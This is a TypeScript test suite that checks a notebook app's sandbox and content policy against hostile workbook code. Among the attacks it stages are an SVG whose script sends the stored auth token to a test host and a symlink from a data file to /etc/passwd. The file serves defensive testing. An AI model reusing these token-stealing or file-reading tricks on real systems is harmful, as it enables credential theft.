import { createHash } from "node:crypto";
import { readdir, readFile, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { calls, callsOfFreshWindow, reads, sends } from "../harness/attacks.ts";
import { leaves, moves, permissions, powers } from "../harness/attacks-on-page.ts";
import { askForRuns, forgeries, secondPort } from "../harness/attacks-on-port.ts";
import { launchChromium } from "../harness/chromium.ts";
import {
  openHostile,
  slug,
  startElsewhere,
  type Attack,
  type Elsewhere,
  type Opened,
  type Weakening,
} from "../harness/hostile.ts";
import { eventually } from "../harness/person.ts";
import { makeWorkspace, startTierbook, type Tierbook } from "../harness/tierbook.ts";

const secret = "what only the other workbook knows";

let browser: Browser;
let tierbook: Tierbook;
let elsewhere: Elsewhere;
const opened: Opened[] = [];

beforeAll(async () => {
  // else a document that was changed on its way here counts as one from the internet, and what it
  // may not reach on this machine would be no merit of ours
  browser = await launchChromium(["--disable-features=LocalNetworkAccessChecks"]);
  const workspace = await makeWorkspace({
    "other.html": `<!doctype html><notebook><title>${secret}</title></notebook>`,
  });
  await symlink("/etc/passwd", join(workspace, "data/link.csv"));
  await writeFile(join(workspace, "data/.hidden.csv"), "a\n1\n");
  tierbook = await startTierbook(workspace);
});
afterAll(async () => {
  await browser.close();
  await tierbook.dispose();
});
beforeEach(async () => {
  elsewhere = await startElsewhere();
});
afterEach(async () => {
  for (const { context } of opened.splice(0)) {
    await context.unrouteAll({ behavior: "ignoreErrors" });
    await context.close();
  }
  await elsewhere.close();
});

async function open(attacks: readonly Attack[], weakening?: Weakening): Promise<Opened> {
  const it = await openHostile(browser, tierbook, elsewhere, attacks, weakening);
  opened.push(it);
  return it;
}

/** What reached elsewhere, once a request that is allowed has reached it after all that are not. */
async function heard(): Promise<readonly string[]> {
  const page = await browser.newPage();
  await page.goto(`${elsewhere.origin}/allowed`);
  await page.close();
  return [...elsewhere.heard].filter((path) => path !== "allowed" && path !== "favicon.ico").sort();
}

/** The names and digests of all that a workbook must not change. */
async function disk(): Promise<readonly string[]> {
  const names = await readdir(tierbook.workspace, { recursive: true });
  const kept = names.filter((name) => !/^(\.tierbook|hostile)/.test(name) && name.includes("."));
  return await Promise.all(
    kept.sort().map(async (name) => {
      const bytes = await readFile(join(tierbook.workspace, name));
      return `${name} ${createHash("sha256").update(bytes).digest("hex")}`;
    }),
  );
}

const policy = "content-security-policy";
const allowlist = "connection-allowlist";

function without(...names: readonly string[]): Weakening {
  return {
    headers: (_, headers) => {
      for (const name of names) delete headers[name];
    },
  };
}

const withoutPolicy = without(policy, allowlist);

const withoutSandbox: Weakening = {
  ...withoutPolicy,
  sandbox:
    "allow-scripts allow-forms allow-same-origin allow-modals allow-downloads allow-popups allow-top-navigation",
};

async function ledger(): Promise<unknown> {
  return await (await tierbook.api("/api/ledger")).json();
}

/** Names of attacks that did what they wanted by their own account. */
function successes(outcomes: Readonly<Record<string, string>>): readonly string[] {
  return Object.keys(outcomes).filter((name) => outcomes[name]?.startsWith("did: "));
}

test("nothing that workbook code sends leaves: by the policy alone, or by the allowlist alone", async () => {
  const guarded: readonly (Weakening | undefined)[] = [
    undefined,
    without(policy),
    without(allowlist),
  ];
  await Promise.all(guarded.map(async (weakening) => (await open(sends, weakening)).outcomes()));
  expect(await heard()).toEqual([]);
  const bare = await open(sends, withoutPolicy);
  await bare.outcomes();
  expect(await heard()).toEqual(sends.map(({ name }) => slug(name)).sort());
});

test("WebRTC is taken away, and a window that still has it can run nothing", async () => {
  const all = [...calls, ...callsOfFreshWindow];
  const outcomes = await (await open(all)).outcomes();
  expect(outcomes).toMatchObject({
    WebRTC: expect.stringContaining("not defined"),
    "WebRTC of an empty window": expect.stringContaining("refused"),
  });
  await (await open(all, without(allowlist))).outcomes();
  const keepWebRTC = (): void => {
    const value: unknown = Reflect.get(globalThis, "RTCPeerConnection");
    Object.defineProperty(globalThis, "RTCPeerConnection", { value, configurable: false });
  };
  await (await open(calls, { before: keepWebRTC })).outcomes();
  expect(await heard()).toEqual([]);

  await open(callsOfFreshWindow, withoutPolicy);
  await eventually(heard, (paths) => paths.includes("udp"));
  elsewhere.heard.clear();
  await open(calls, { ...without(allowlist), before: keepWebRTC });
  await eventually(heard, (paths) => paths.includes("udp"));
});

test("workbook code reads no token, storage, page, ledger or other workbook, overwrites and publishes none", async () => {
  const before = await disk();
  for (const weakening of [undefined, withoutPolicy]) {
    const it = await open(reads, weakening);
    const outcomes = await it.outcomes();
    // a script that is refused says nothing of it
    expect(successes(outcomes)).toEqual(["ledger as a script"]);
    expect(JSON.stringify(outcomes)).not.toContain(tierbook.token);
    expect(it.answered.filter((answer) => !/ 40[13]$/.test(answer))).toEqual([]);
  }
  expect(await disk()).toEqual(before);

  const outcomes = await (await open(reads, withoutSandbox)).outcomes();
  expect(outcomes).toMatchObject({
    token: `did: ${tierbook.token}`,
    "token of the parent": `did: ${tierbook.token}`,
    "parent page": expect.stringContaining("Run all"),
    "top address": expect.stringContaining("/w/hostile"),
    databases: "did: open",
    "private files": "did: open",
    "other workbook with the token": expect.stringContaining(secret),
    overwrite: "did: 200",
    publish: "did: 200",
  });
  expect(await disk()).not.toEqual(before);
});

test("workbook code takes the person nowhere and opens no window", async () => {
  const it = await open(leaves);
  await it.outcomes();
  expect([await heard(), it.events, it.page.url()]).toEqual([[], [], it.address]);
  await it.page.getByRole("button", { name: "Run all" }).waitFor();

  const worst = leaves.filter(({ name }) => ["top location", "window", "back"].includes(name));
  for (const attack of worst) {
    const { page, address, events } = await open([attack], withoutSandbox);
    await eventually(
      async () => page.url() !== address || events.length > 0,
      (hasLeft) => hasLeft,
    );
  }
  expect(await heard()).toEqual(["top-location", "window"]);
});

test("the frame goes nowhere with what it knows", async () => {
  const before = await disk();
  const tries = moves.map(async (attack) => {
    const it = await open([attack]);
    await eventually(
      async () => it.said,
      (lines) => lines.some((line) => line.includes("has been blocked")),
    );
    expect(it.page.url()).toBe(it.address);
    await it.page.getByText("The workbook’s frame is gone. Its text is kept.").waitFor();
  });
  await Promise.all(tries);
  expect([await heard(), await disk()]).toEqual([[], before]);

  await Promise.all(moves.map((attack) => open([attack], withoutPolicy)));
  await eventually(heard, (paths) => paths.length === moves.length);
});

test("workbook code has no dialogs, downloads, full screen or devices", async () => {
  const it = await open([...powers, ...permissions]);
  const names = permissions.map(({ name }) => name);
  expect(successes(await it.outcomes()).filter((name) => names.includes(name))).toEqual([]);
  expect(it.events).toEqual([]);

  const loose = await open([...powers, ...permissions], withoutSandbox);
  expect(successes(await loose.outcomes())).toContain("full screen");
  await eventually(
    async () => loose.events.length,
    (length) => length === 4,
  );
  expect([...loose.events].sort()).toEqual(["alert", "confirm", "download", "prompt"]);
});

test("forged calls give nothing, whatever they say and however often", async () => {
  const before = [await disk(), await ledger()];
  const it = await open([forgeries, secondPort]);
  const outcomes = await it.outcomes();
  expect(outcomes[forgeries.name]).toBe('did: {"given":[],"honest":"return"}');
  expect(outcomes[secondPort.name]).toContain("refused");
  expect([await disk(), await ledger()]).toEqual(before);

  const openDoor = (text: string): string => text.replaceAll("/\\.html?$/i", "/^never$/");
  const weak = await (await open([forgeries], { script: openDoor })).outcomes();
  expect(weak[forgeries.name]).toContain(secret);
});

test("no run starts without a click, even where the person allows this workbook small runs", async () => {
  const allowSmallRuns = (): void => {
    const { getItem } = Storage.prototype;
    Storage.prototype.getItem = function (key) {
      return key.startsWith("tierbook.allow-small-runs:") ? "yes" : getItem.call(this, key);
    };
  };
  const penguins = await readFile(join(tierbook.workspace, "penguins.html"), "utf8");
  const withPenguins = (cells: string): string =>
    penguins.replace("</notebook>", () => `${cells}</notebook>`);
  const openPenguins = async (weakening: Weakening): Promise<Opened> => {
    const it = await openHostile(
      browser,
      tierbook,
      elsewhere,
      [askForRuns],
      weakening,
      withPenguins,
    );
    opened.push(it);
    await eventually(
      async () => it.said,
      (lines) => lines.includes("asked"),
    );
    return it;
  };
  const { page } = await openPenguins({ before: allowSmallRuns });
  await page.getByRole("button", { name: "Small run Ready", exact: true }).waitFor();
  expect(await page.getByRole("dialog").count()).toBe(0);
  expect(await (await tierbook.api("/api/runs")).json()).toEqual({ runs: [] });

  const pretendClick = (text: string): string =>
    text.replaceAll("navigator.userActivation.isActive", "true");
  const weak = await openPenguins({ before: allowSmallRuns, script: pretendClick });
  await weak.page.getByRole("button", { name: /^Small run (Running|Passed)/ }).waitFor();
});

test("a file that somebody opens by its address runs nothing with the person's rights", async () => {
  const steal = `new Image().src = "${elsewhere.origin}/svg?" + localStorage.getItem("tierbook.token")`;
  await writeFile(
    join(tierbook.workspace, "data/picture.svg"),
    `<svg xmlns="http://www.w3.org/2000/svg"><script>${steal}</script></svg>`,
  );
  const given = await tierbook.api("/api/capabilities", {
    method: "POST",
    body: JSON.stringify({ path: "data/picture.svg", frame: "test" }),
  });
  const { url } = (await given.json()) as { url: string };
  const it = await open([]);
  await it.page.goto(tierbook.origin + url);
  expect(await heard()).toEqual([]);
  const loose = await open([], withoutPolicy);
  await loose.page.goto(tierbook.origin + url);
  await eventually(heard, (paths) => paths.includes("svg"));
});
